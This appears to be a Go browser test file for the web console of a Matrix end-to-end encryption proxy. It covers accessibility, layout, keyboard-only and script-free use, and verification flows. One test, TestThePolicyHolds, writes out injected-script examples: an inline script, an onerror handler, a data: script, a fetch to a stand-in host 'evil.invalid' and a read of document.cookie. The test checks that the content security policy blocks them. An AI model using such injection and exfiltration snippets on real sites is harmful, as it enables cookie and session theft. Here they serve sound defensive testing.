package console

import (
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"maunium.net/go/mautrix/id"

	"e2ee-proxy/e2ee"
	"e2ee-proxy/internal/qrcode"
	"e2ee-proxy/internal/testbrowser"
)

// scene is a page in a state that is worth looking at.
type scene struct {
	name, path string
	set        func(d *fakeDevice)
	// open are summaries to open first.
	open []string
}

func flowIn(state e2ee.VerificationState, edit func(v *e2ee.Verification)) func(d *fakeDevice) {
	return func(d *fakeDevice) {
		v := e2ee.Verification{ID: "flow1", UserID: bob, State: state, Message: "Waiting for the other side.", ExpiresAt: time.Date(2026, 11, 30, 12, 10, 0, 0, time.UTC)}
		if edit != nil {
			edit(&v)
		}
		d.flows = []e2ee.Verification{v}
	}
}

func sevenEmoji(v *e2ee.Verification) {
	v.Message = "Compare what you both see."
	v.Decimals = &[3]int{1234, 5678, 9012}
	for _, e := range [][2]string{{"🐶", "Dog"}, {"🐱", "Cat"}, {"🦁", "Lion"}, {"🐎", "Horse"}, {"🦄", "Unicorn"}, {"🐷", "Pig"}, {"🐘", "Elephant"}} {
		v.Emoji = append(v.Emoji, e2ee.VerificationEmoji{Symbol: e[0], Name: e[1]})
	}
}

// scenes are all pages, in every state that looks different.
func scenes() []scene {
	fine := func(*fakeDevice) {}
	reset := func(d *fakeDevice) {
		d.warnings = []e2ee.Warning{{ID: "1", Code: "identity_changed", UserID: bob, Since: time.Date(2026, 11, 2, 3, 4, 5, 0, time.UTC), Message: "@bob:hs's digital identity was reset. Nothing is sent to encrypted rooms with them until you accept the new one. " +
			"This can happen if they lost all their devices and the recovery key, but it can also be a sign of somebody taking over the account. Ask them in another way before you accept it."}}
		trust := d.trust[bob]
		trust.State, trust.CurrentMasterKey = "changed", "AnotherKeyOfBob0123456789abcdefghijklmnopqr"
		d.trust[bob] = trust
	}
	lost := func(d *fakeDevice) {
		reset(d)
		trust := d.trust[bob]
		trust.State = "verification_lost"
		d.trust[bob] = trust
	}
	unsigned := func(d *fakeDevice) {
		d.status.Identity.DeviceSigned = false
		d.status.Problems = []e2ee.Problem{
			{Code: "device_not_signed", Message: "Your digital identity has not confirmed this device. Others would not show its messages."},
			{Code: "other_devices_not_signed", Message: "Your digital identity has not confirmed these devices of yours: OLDLAPTOP. They are given no messages, and theirs are not shown."},
		}
	}
	trial := func(d *fakeDevice) {
		d.status.Policy = &e2ee.PolicyStatus{Send: "warn", Receive: "warn", Native: "off", Would: &e2ee.WouldHave{
			Since: time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC), Hidden: 2,
			Rooms: []e2ee.RoomWouldHave{{RoomID: "!aVeryLongRoomNameThatHasNoBlanksInIt:example.org", WithoutKey: 3, Messages: 7, BlockedBy: []id.UserID{bob}}},
		}}
	}
	running := func(d *fakeDevice) {
		d.status.Backup.Restore = &e2ee.RestoreStatus{State: "running", Total: 200, Done: 50, Restored: 40}
	}
	return []scene{
		{"status-fine", "", fine, nil},
		{"status-unsigned", "", unsigned, nil},
		{"status-warning", "", reset, nil},
		{"people", "/people", reset, nil},
		{"person-not-verified", "/people/@bob:hs", fine, []string{"Verify by comparing", "Exception for BTEST"}},
		{"person-reset", "/people/@bob:hs", reset, nil},
		{"person-lost", "/people/@bob:hs", lost, nil},
		{"person-verified", "/people/@carol:hs", fine, []string{"The fingerprint"}},
		{"verifications", "/verifications", flowIn("requested", nil), nil},
		{"verification-asked", "/verifications/flow1", flowIn("requested", func(v *e2ee.Verification) { v.Incoming, v.Message = true, "@bob:hs wants to verify." }), nil},
		{"verification-waiting", "/verifications/flow1", flowIn("requested", nil), nil},
		{"verification-ready", "/verifications/flow1", flowIn("ready", func(v *e2ee.Verification) {
			v.CanEmoji, v.CanScan, v.QR, v.Message = true, true, []byte("MATRIX\x02\x01\x00\x07$flow:hs"+strings.Repeat("k", 32)+strings.Repeat("l", 32)+"secret"), "Choose how to verify."
		}), []string{"Paste the code as text"}},
		{"verification-compare", "/verifications/flow1", flowIn("compare", sevenEmoji), nil},
		{"verification-scanned", "/verifications/flow1", flowIn("scanned", nil), nil},
		{"verification-done", "/verifications/flow1", flowIn("done", func(v *e2ee.Verification) { v.Message = "@bob:hs is verified." }), nil},
		{"verification-cancelled", "/verifications/flow1", flowIn("cancelled", func(v *e2ee.Verification) { v.Message = "The other side has cancelled." }), nil},
		{"devices", "/devices", fine, []string{"Its key, to compare"}},
		{"warnings", "/warnings", reset, nil},
		{"warnings-none", "/warnings", fine, nil},
		{"recovery", "/recovery", fine, []string{"You have lost your recovery key", "Enter your recovery key all the same"}},
		{"recovery-needed", "/recovery", func(d *fakeDevice) {
			unsigned(d)
			d.key = ""
			d.status.Problems = append(d.status.Problems, e2ee.Problem{Code: "backup_missing"})
		}, nil},
		{"history", "/backup", running, nil},
		{"history-done", "/backup", func(d *fakeDevice) { running(d); d.status.Backup.Restore.State = "done" }, nil},
		{"exceptions", "/exceptions", func(d *fakeDevice) {
			d.status.Overrides = []e2ee.UserDevice{{UserID: bob, DeviceID: "BTEST", Trusted: true}}
		}, nil},
		{"strictness", "/rollout", trial, nil},
		{"admin-accounts", "/admin", fine, nil},
		{"admin-warnings", "/admin/warnings", fine, nil},
		{"admin-exceptions", "/admin/exceptions", fine, nil},
		{"admin-rollout", "/admin/rollout", fine, nil},
		{"admin-account", "/admin/accounts/@alice:hs", fine, nil},
		{"refused", "/verifications/none", fine, nil},
	}
}

// signInWith signs a person in as a person does.
func signInWith(r *rig, p *testbrowser.Page, user string) {
	r.t.Helper()
	p.Goto(r.server.URL + "/_e2ee_proxy/console")
	p.Fill("#user", user)
	p.Fill("#password", "wonderland")
	p.Follow("Sign in")
	p.Wants("Signed in as @" + user + ":hs")
}

// looked checks the page that is open: for people with disabilities, for its width, and that the
// browser complains of nothing.
func looked(t *testing.T, p *testbrowser.Page, name string) {
	t.Helper()
	for _, fault := range p.Faults() {
		t.Errorf("%s: %s", name, fault)
	}
	if wide := p.Overflow(); wide > 0 {
		t.Errorf("%s: is %d pixels wider than the window", name, wide)
	}
	p.Picture(name)
}

// Every page, in every state, is without a fault for axe-core, in light and dark; fits a phone; and
// needs nothing that its own policy refuses. Its pictures are kept to be looked at.
func TestEveryPageInTheBrowser(t *testing.T) {
	t.Parallel()
	looks := map[string]testbrowser.Look{
		"light": {Width: 1100}, "dark": {Width: 1100, Dark: true}, "phone": {Width: 360, Height: 740}, "phone-dark": {Width: 320, Height: 640, Dark: true},
	}
	browser := testbrowser.Start(t)
	for name, look := range looks {
		if testing.Short() && name != "phone" {
			continue
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t)
			r.admins = []id.UserID{alice}
			p := browser.Open(look)
			p.Goto(r.server.URL + "/_e2ee_proxy/console")
			p.Press("With an access token")
			looked(t, p, "sign-in-"+name)
			p.Fill("#user", "alice")
			p.Fill("#password", "wrong")
			p.Follow("Sign in")
			looked(t, p, "sign-in-refused-"+name)
			p.Fill("#password", "wonderland")
			p.Follow("Sign in")
			for _, s := range scenes() {
				r.accounts.mu.Lock()
				r.accounts.devs[alice] = newFakeDevice(alice)
				r.accounts.mu.Unlock()
				dev := r.accounts.of(alice)
				dev.set(func() { s.set(dev) })
				p.Goto(r.server.URL + "/_e2ee_proxy/console" + s.path)
				for _, words := range s.open {
					p.Press(words)
				}
				looked(t, p, s.name+"-"+name)
			}
			p.Goto(r.server.URL + "/_e2ee_proxy/console/recovery")
			p.Follow("Show it now, this once")
			p.Wants(goodKey, "Print it")
			looked(t, p, "recovery-key-"+name)
			if c := complaintsOf(p); len(c) > 0 {
				t.Errorf("the browser complains: %q", c)
			}
		})
	}
}

// complaintsOf returns what a browser complains about but for pages that are refusals.
func complaintsOf(p *testbrowser.Page) (all []string) {
	for _, c := range p.Complaints() {
		if !strings.Contains(c, "the server responded with a status of") {
			all = append(all, c)
		}
	}
	return all
}

// A person with nothing but a keyboard signs in, sees where they are, and does what the page asks.
func TestKeyboardAlone(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	dev := r.accounts.of(alice)
	dev.set(flowInOf(dev, "compare", sevenEmoji))
	p := testbrowser.Start(t).Open(testbrowser.Look{})
	p.Goto(r.server.URL + "/_e2ee_proxy/console")
	tabTo := func(words string) {
		t.Helper()
		for range 60 {
			p.Key("Tab")
			f := p.Focused()
			if f.Tag != "body" && !f.Visible {
				t.Errorf("nobody sees that %s %q has the keyboard", f.Tag, f.Words)
			}
			if strings.Contains(f.Words, words) {
				return
			}
		}
		t.Fatalf("the keyboard never reaches %q", words)
	}
	typed := func(text string) {
		for _, key := range text {
			p.Key(string(key))
		}
	}
	p.Key("Tab")
	if f := p.Focused(); !strings.Contains(f.Words, "Skip to the page") {
		t.Errorf("first there is %q", f.Words)
	}
	tabTo("User name")
	typed("alice")
	tabTo("Password")
	typed("wonderland")
	p.FollowKey("Enter")
	p.Wants("Signed in as @alice:hs")
	tabTo("Go to the verification")
	p.FollowKey("Enter")
	tabTo("They match")
	p.FollowKey("Enter")
	p.Wants("Back to all verifications")
	r.wantDid("confirm flow1 true")
}

// flowInOf adapts flowIn to set.
func flowInOf(d *fakeDevice, state e2ee.VerificationState, edit func(v *e2ee.Verification)) func() {
	return func() { flowIn(state, edit)(d) }
}

// Without script everything can be done: a verification from the request to the end, a recovery,
// and a page that waits looks again by itself.
func TestWithoutScript(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	dev := r.accounts.of(alice)
	p := testbrowser.Start(t).Open(testbrowser.Look{NoScript: true})
	signInWith(r, p, "alice")
	p.Follow("People")
	p.Follow("@bob:hs")
	p.Follow("Begin to verify")
	p.Wants("Waiting for the other side to accept")
	dev.changed(func() { dev.flows[0].State, dev.flows[0].CanEmoji, dev.flows[0].Message = "ready", true, "Choose how." })
	p.Await("Choose how.") // by itself
	p.Follow("Compare emoji")
	dev.changed(func() { dev.flows[0].State = "compare"; sevenEmoji(&dev.flows[0]) })
	p.Await("Elephant")
	p.Follow("They match")
	p.Follow("Back to all verifications")
	p.Follow("Recovery")
	p.Follow("Show it now, this once")
	p.Wants(goodKey)
	if n := p.Count("button:not([hidden])[data-print]"); n != 0 {
		t.Error("a button is shown that does nothing")
	}
	r.wantDid(`request @bob:hs ""`, "emoji flow1", "confirm flow1 true", "delete key")
}

// With script a page that is open shows what happens, at once, and leaves alone what is typed.
func TestLiveProgress(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	dev := r.accounts.of(alice)
	dev.set(flowInOf(dev, "requested", nil))
	p := testbrowser.Start(t).Open(testbrowser.Look{})
	signInWith(r, p, "alice")
	p.Goto(r.server.URL + "/_e2ee_proxy/console/verifications/flow1")
	dev.changed(func() {
		dev.flows[0].State, dev.flows[0].CanScan, dev.flows[0].CanEmoji, dev.flows[0].Message = "ready", true, true, "Choose how."
	})
	p.Await("Choose how.")
	p.Press("Paste the code as text")
	p.Fill("#code", "half a co")
	dev.changed(func() { dev.flows[0].Message = "Choose how, now." })
	var kept string
	p.InPage(`new Promise((done) => setTimeout(() => done(document.querySelector("#code")?.value ?? "gone"), 500))`, &kept)
	if kept != "half a co" {
		t.Errorf("what was typed is %q", kept)
	}
	p.Goto(r.server.URL + "/_e2ee_proxy/console/verifications/flow1")
	dev.changed(func() { dev.flows[0].State = "compare"; sevenEmoji(&dev.flows[0]) })
	p.Await("Elephant")
	dev.changed(func() { dev.flows[0].State, dev.flows[0].Message = "done", "All is verified." })
	p.Await("All is verified.")
	if c := complaintsOf(p); len(c) > 0 {
		t.Errorf("the browser complains: %q", c)
	}
}

// Attack: code gets into a page after all, by a fault that nobody knows of yet. The policy of the
// page keeps it from running, from being loaded, and from sending anything away.
func TestThePolicyHolds(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	p := testbrowser.Start(t).Open(testbrowser.Look{})
	signInWith(r, p, "alice")
	var ran string
	p.InPage(`new Promise((done) => {
		globalThis.ran = "";
		const s = document.createElement("script"); s.textContent = "ran += 'inline '"; document.body.append(s);
		const i = document.createElement("img"); i.setAttribute("onerror", "ran += 'handler '"); i.src = "nowhere"; document.body.append(i);
		const e = document.createElement("script"); e.src = "data:text/javascript,ran += 'data '"; document.body.append(e);
		fetch("https://evil.invalid/").catch(() => {});
		setTimeout(() => done(globalThis.ran + document.cookie), 500);
	})`, &ran)
	if ran != "" {
		t.Errorf("a script ran, or saw the cookie: %s", ran)
	}
	refused := strings.Join(p.Complaints(), "\n")
	for _, what := range []string{"inline script", "data:text/javascript", "https://evil.invalid/"} {
		if !strings.Contains(refused, what) {
			t.Errorf("nothing was refused of %s:\n%s", what, refused)
		}
	}
}

// A picture of a code is sent by the form, as a browser does.
func TestPictureFromTheBrowser(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	dev := r.accounts.of(alice)
	dev.set(flowInOf(dev, "ready", func(v *e2ee.Verification) { v.CanScan = true }))
	file := filepath.Join(t.TempDir(), "photo.png")
	photo, err := qrcode.PNG([]byte("the code"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, photo, 0o600); err != nil {
		t.Fatal(err)
	}
	p := testbrowser.Start(t).Open(testbrowser.Look{NoScript: true})
	signInWith(r, p, "alice")
	if status := p.Goto(r.server.URL + "/_e2ee_proxy/console/verifications/flow1"); status != http.StatusOK {
		t.Fatal(status)
	}
	p.Upload("#picture", file)
	p.Follow("Read the code")
	r.wantDid(`scan flow1 "the code"`)
}
